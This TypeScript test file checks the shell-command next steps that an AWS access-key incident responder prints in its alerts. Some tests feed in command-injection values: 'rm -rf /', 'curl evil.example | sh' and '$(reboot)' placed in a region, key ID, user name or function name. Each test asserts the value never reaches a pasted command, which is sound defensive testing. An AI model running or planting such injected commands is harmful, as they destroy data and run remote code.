import { describe, expect, it } from "vitest";
import { PLACEHOLDER } from "../../../src/alert/commands";
import { type Outcome, Status } from "../../../src/contain/outcome";
import type { Finding } from "../../../src/findings";
import { type Plan, Skip } from "../../../src/plan/plan";
import type { Config } from "../../../src/shared/config";
import { findingOf, testConfig } from "../../support/fixtures";
import {
  cardOf,
  commandLines,
  deployed,
  disabledAlice,
  live,
  manualIdentity,
  outcome,
  planFor,
  renderOne,
  skipPlan,
} from "./outcomes";

const skipped = (fixture: string, config?: Config, overrides: Partial<Finding> = {}): Outcome =>
  outcome(planFor(findingOf(fixture, overrides), config), Status.Skipped);

const skippedAs = (skip: Skip, urgent: boolean, overrides: Partial<Finding> = {}): Outcome =>
  outcome(skipPlan(findingOf("guardduty-iam-user", overrides), skip, urgent), Status.Skipped);

/** Every line of an alert that a person might paste into a shell. */
const shellCommands = (steps: string[]): string[] =>
  steps.filter((step) => /\baws (iam|cloudtrail) /.test(step));

const ALICE_ACTIVE =
  "aws iam update-access-key --user-name alice --access-key-id AKIAALICE00000000001 --status Active";
const ALICE_INACTIVE =
  "aws iam update-access-key --user-name alice --access-key-id AKIAALICE00000000001 --status Inactive";
const IN_OUR_ACCOUNT = "in account 111111111111 (use credentials or a --profile for that account):";

describe("nextSteps", () => {
  it("says the account, then gives the bare reactivation and CloudTrail commands for a disabled key", () => {
    const alert = renderOne([disabledAlice()]);
    const steps = alert.document.keys[0]?.nextSteps ?? [];

    expect(steps).toEqual([
      `Review what the key did ${IN_OUR_ACCOUNT}`,
      "aws cloudtrail lookup-events --lookup-attributes " +
        "AttributeKey=AccessKeyId,AttributeValue=AKIAALICE00000000001 --region us-east-1",
      "Rotate: give the owner a new key, update whatever used the old one, then delete the old key once reviewed.",
      `If this was a false positive, reactivate it ${IN_OUR_ACCOUNT}`,
      ALICE_ACTIVE,
    ]);
    expect(alert.text.split("\n")).toContain(`        ${ALICE_ACTIVE}`);
  });

  it("leaves the region out of the CloudTrail command when the finding's region is not a region", () => {
    const finding = findingOf("guardduty-iam-user", { region: "us-east-1; rm -rf /" });

    const steps = renderOne([outcome(planFor(finding), Status.Disabled)]).document.keys[0]?.nextSteps ?? [];

    expect(steps).toContain(
      "aws cloudtrail lookup-events --lookup-attributes AttributeKey=AccessKeyId,AttributeValue=AKIAALICE00000000001",
    );
  });

  it("names a member account's key's account before the command, never after it", () => {
    const config = testConfig({ memberRoleName: "ResponderMember" });
    const plan = planFor(findingOf("guardduty-member-account"), config);

    const steps = renderOne([outcome(plan, Status.Disabled)]).document.keys[0]?.nextSteps ?? [];
    const reactivate = steps.findIndex((step) => step.endsWith("--status Active"));

    expect(steps[reactivate - 1]).toBe(
      "If this was a false positive, reactivate it in account 222222222222 " +
        "(use credentials or a --profile for that account):",
    );
    expect(steps[reactivate]).toMatch(/^aws iam update-access-key .* --status Active$/);
  });

  it.each([
    ["disabled", () => disabledAlice()],
    ["failed", () => outcome(planFor(findingOf("guardduty-iam-user")), Status.Failed)],
    ["protected", () => outcome(planFor(findingOf("guardduty-iam-user")), Status.Protected)],
    [
      "reactivated",
      () =>
        outcome(planFor(findingOf("manual-reactivate"), testConfig(), manualIdentity()), Status.Reactivated),
    ],
    ["below the threshold", () => skipped("guardduty-low-severity")],
    ["of another account", () => skipped("guardduty-member-account")],
    ["of the root user", () => skipped("guardduty-root")],
    ["with a refused reactivation", () => skippedAs(Skip.ReactivationRefused, true)],
    ["from an untrusted product", () => skippedAs(Skip.UntrustedProduct, true)],
    ["of the responder itself", () => skippedAs(Skip.Responder, true)],
  ])("puts every command of a key %s alone on its line, so that it pastes and runs as is", (_, make) => {
    const sibling = {
      accessKeyId: "AKIAALICE00000000002",
      status: "Active",
      suspicious: true,
      disabled: false,
    };
    const alert = renderOne([{ ...make(), siblings: [sibling] }]);
    const textCommands = commandLines(alert.text.split("\n"));
    const stepCommands = commandLines(alert.document.keys[0]?.nextSteps ?? []);

    expect(textCommands.length).toBeGreaterThan(0);
    for (const line of [...textCommands, ...stepCommands]) {
      expect(line.trim()).toMatch(/^aws (iam|cloudtrail|lambda) [^()]*$/);
      expect(line).not.toContain("(in account");
    }
    for (const step of cardOf(alert).content.nextSteps.filter((s) => s.includes("aws "))) {
      expect(step).toMatch(/^`aws [^`]+`$/);
    }
  });

  it.each([Status.Disabled, Status.Failed, Status.Protected, Status.Reactivated])(
    "never puts an invalid key ID or user name into a shell command of a %s outcome",
    (status) => {
      const finding = findingOf("guardduty-iam-user", {
        accessKeyId: "AKIA'; curl evil.example | sh #",
        userName: "alice$(reboot)",
      });
      const plan: Plan = { ...planFor(findingOf("guardduty-iam-user")), finding, userName: "alice$(reboot)" };

      const alert = renderOne([outcome(plan, status, { userName: "alice$(reboot)" })]);
      const commands = shellCommands(alert.document.keys[0]?.nextSteps ?? []);

      expect(commands.length).toBeGreaterThan(0);
      for (const command of commands) {
        expect(command).not.toContain("curl");
        expect(command).not.toContain("$(reboot)");
        expect(command).toMatch(/\{access-key-id\}/);
      }
      expect(shellCommands(alert.text.split("\n")).join("\n")).not.toMatch(/curl|\$\(reboot\)/);
    },
  );

  it("gives no shell command at all for the invalid-key fixture", () => {
    const alert = renderOne([skipped("guardduty-invalid-key")]);
    const key = alert.document.keys[0];

    expect(key?.skip).toBe("invalid-input");
    expect(shellCommands(key?.nextSteps ?? [])).toEqual([]);
    expect(shellCommands(alert.text.split("\n"))).toEqual([]);
    expect(alert.document.verdict).toBe("action-required");
  });

  it("explains how to revoke a role's sessions for a temporary key", () => {
    const alert = renderOne([skipped("guardduty-assumed-role")]);

    expect(alert.text).toContain("[TEMPORARY KEY - ACT NOW] ASIAROLE000000000001");
    expect(alert.document.keys[0]?.nextSteps[0]).toContain(
      "IAM console: Roles > web-instance-role > Revoke active sessions",
    );
    expect(alert.text).toContain("REVOKE_SESSIONS=true");
  });

  it("marks a finding below the threshold for a person, with the command to disable the key by hand", () => {
    const alert = renderOne([skipped("guardduty-low-severity")]);
    const steps = alert.document.keys[0]?.nextSteps ?? [];

    expect(alert.text).toContain("[BELOW THRESHOLD - NOT CHANGED] AKIAALICE00000000001 - user alice");
    expect(alert.document.verdict).toBe("action-required");
    expect(alert.subject.startsWith("ACTION REQUIRED:")).toBe(true);
    expect(steps).toEqual([
      `Review the finding. The key is still Active; to disable it now ${IN_OUR_ACCOUNT}`,
      ALICE_INACTIVE,
    ]);
  });

  it("says which account a key of another account is in and why it was not changed", () => {
    const alert = renderOne([skipped("guardduty-member-account")]);

    expect(alert.text).toContain(
      "[OTHER ACCOUNT - NOT CHANGED] AKIAERIN000000000001 - user erin - account 222222222222",
    );
    expect(alert.text).toContain("no member role is configured to act there");
    expect(alert.document.keys[0]?.nextSteps).toEqual([
      "Disable it in account 222222222222 (use credentials or a --profile for that account):",
      expect.stringMatching(
        /^aws iam update-access-key .*--access-key-id AKIAERIN000000000001 --status Inactive$/,
      ),
      "Or deploy the member role to that account and set MEMBER_ROLE_NAME.",
    ]);
  });

  it.each([
    ["below the threshold", "guardduty-low-severity", "alice", undefined],
    ["of another account", "guardduty-member-account", "erin", undefined],
    ["of a protected user", "guardduty-protected-user", "breakglass-admin", ["breakglass-admin"]],
  ])("fills the named user into the by-hand command for a key %s", (_, fixture, user, protectedUsers) => {
    const config = testConfig({ protectedUsers: protectedUsers ?? [] });

    const steps = renderOne([skipped(fixture, config)]).document.keys[0]?.nextSteps ?? [];

    expect(shellCommands(steps).some((step) => step.includes(`--user-name ${user} `))).toBe(true);
  });

  it("gives each key possibly created by the attacker its own command to disable it", () => {
    const alert = renderOne([
      disabledAlice({
        siblings: [
          {
            accessKeyId: "AKIAALICE00000000002",
            status: "Active",
            created: "2026-11-20T09:02:00.000Z",
            suspicious: true,
            disabled: false,
          },
          {
            accessKeyId: "AKIAALICE00000000003",
            status: "Active",
            created: "2025-01-01T00:00:00.000Z",
            suspicious: false,
            disabled: false,
          },
        ],
      }),
    ]);
    const steps = alert.document.keys[0]?.nextSteps ?? [];

    expect(alert.text).toContain(
      "Other key AKIAALICE00000000002 (Active, created 2026-11-20T09:02:00.000Z) - created after the finding was " +
        "first seen: possibly created by the attacker",
    );
    const sibling = steps.indexOf(
      "aws iam update-access-key --user-name alice --access-key-id AKIAALICE00000000002 --status Inactive",
    );
    expect(sibling).toBeGreaterThan(0);
    expect(steps[sibling - 1]).toBe(
      "Key AKIAALICE00000000002 was created after the finding was first seen and may be the attacker's. " +
        `Unless its owner knows it, disable it ${IN_OUR_ACCOUNT}`,
    );
    expect(steps.join("\n")).not.toContain("AKIAALICE00000000003");
  });

  it("gives no command for a sibling the responder already disabled", () => {
    const alert = renderOne([
      disabledAlice({
        siblings: [
          { accessKeyId: "AKIAALICE00000000002", status: "Inactive", suspicious: true, disabled: true },
        ],
      }),
    ]);

    expect(alert.document.keys[0]?.nextSteps.join("\n")).not.toContain("AKIAALICE00000000002");
  });

  it("tells how to disable the key by hand when containment failed", () => {
    const alert = renderOne([
      outcome(planFor(findingOf("guardduty-iam-user")), Status.Failed, { error: "AccessDenied: no" }),
    ]);

    expect(alert.document.verdict).toBe("failed");
    expect(alert.document.keys[0]?.urgent).toBe(true);
    expect(alert.document.keys[0]?.nextSteps.slice(0, 2)).toEqual([
      `Disable the key by hand now ${IN_OUR_ACCOUNT}`,
      ALICE_INACTIVE,
    ]);
    expect(alert.text).toContain("  Error:    AccessDenied: no");
  });

  it("gives the command to disable a reactivated key again", () => {
    const plan = planFor(findingOf("manual-reactivate"), testConfig(), manualIdentity());

    const alert = renderOne([outcome(plan, Status.Reactivated)]);

    expect(alert.document.keys[0]?.nextSteps).toEqual([
      `To disable it again ${IN_OUR_ACCOUNT}`,
      "aws iam update-access-key --user-name ivan --access-key-id AKIAIVAN000000000001 --status Inactive",
    ]);
    expect(alert.text).toContain(
      "Reason:   False positive: key belongs to the CI test fixture (ticket SEC-1043)",
    );
  });

  it("refuses a relayed reactivation and says how to ask the manual function directly", () => {
    const finding = findingOf("manual-reactivate", { viaSns: true });
    const plan = planFor(finding, testConfig(), manualIdentity());
    const alert = renderOne([outcome(plan, Status.Skipped)]);
    const steps = alert.document.keys[0]?.nextSteps ?? [];

    expect(plan.skip).toBe("reactivation-refused");
    expect(alert.text).toContain("[REACTIVATION REFUSED] AKIAIVAN000000000001");
    expect(alert.document.verdict).toBe("action-required");
    expect(steps.join("\n")).toContain(
      "only a request sent directly to the manual function may set a key Active",
    );
    const invoke = steps.find((step) => step.startsWith("aws lambda invoke"));
    expect(invoke).toContain("--function-name {manual-function-name} --region {region} ");
    const payload = /--payload '([^']*)'/.exec(invoke ?? "")?.[1] ?? "{}";
    expect(JSON.parse(payload)).toMatchObject({
      accessKeyId: "AKIAIVAN000000000001",
      userName: "ivan",
      status: "Active",
      reason: expect.any(String),
    });
  });

  it("tells a person to act now on the responder's own credentials", () => {
    const alert = renderOne([skippedAs(Skip.Responder, true)]);

    expect(alert.text).toContain("[RESPONDER ITSELF - ACT NOW] AKIAALICE00000000001");
    expect(alert.document.keys[0]?.nextSteps[0]).toMatch(/^URGENT: the finding is about the responder's own/);
    expect(alert.document.keys[0]?.nextSteps).toContain(ALICE_INACTIVE);
    expect(alert.subject.startsWith("ACTION REQUIRED:")).toBe(true);
  });
});

describe("where a person's request goes", () => {
  const refused = (): Outcome =>
    outcome(
      planFor(findingOf("manual-reactivate", { viaSns: true }), testConfig(), manualIdentity()),
      Status.Skipped,
    );
  const lambdaCommand = (ctx = live): string =>
    renderOne([refused()], ctx).document.keys[0]?.nextSteps.find((step) => step.startsWith("aws lambda")) ??
    "";

  it("names the deployed manual function and the stack's region", () => {
    expect(lambdaCommand(deployed)).toMatch(
      /^aws lambda invoke --function-name access-key-responder-prod-manual --region eu-west-1 --cli-binary-format /,
    );
  });

  it("prints placeholders a shell reads as plain words when the function or region is unknown", () => {
    const command = lambdaCommand();

    expect(command).toContain(
      `--function-name ${PLACEHOLDER.manualFunction} --region ${PLACEHOLDER.region} `,
    );
    expect(command.replace(/'[^']*'/g, "")).not.toMatch(/[<>|;&`$()]/);
  });

  it.each([
    ["a function name that is not one", { manualFunctionName: "x; rm -rf ~", region: "eu-west-1" }],
    ["a region that is not one", { manualFunctionName: "f", region: "eu-west-1 $(reboot)" }],
  ])("never echoes %s", (_, commands) => {
    const command = lambdaCommand({ ...live, commands });

    expect(command).not.toMatch(/rm -rf|reboot/);
    expect(command).toMatch(/\{(manual-function-name|region)\}/);
  });
});
